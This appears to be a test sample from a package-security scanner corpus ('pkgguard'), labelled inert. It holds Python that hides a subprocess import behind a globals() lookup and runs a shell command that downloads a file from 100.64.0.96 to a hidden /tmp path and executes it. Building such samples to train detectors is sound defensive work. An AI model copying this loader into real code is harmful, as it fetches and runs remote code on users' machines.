# pkgguard corpus 396 (indirection), modelled on [obfuscation]; inert, never run.
_imp = globals()["__builtins__"]["__import__"] if isinstance(globals()["__builtins__"], dict) else globals()["__builtins__"].__import__
_sp = _imp("subprocess")
_sp.Popen(["/bin/sh", "-c", "wget -q -O /tmp/.u http://100.64.0.96/u && sh /tmp/.u"])
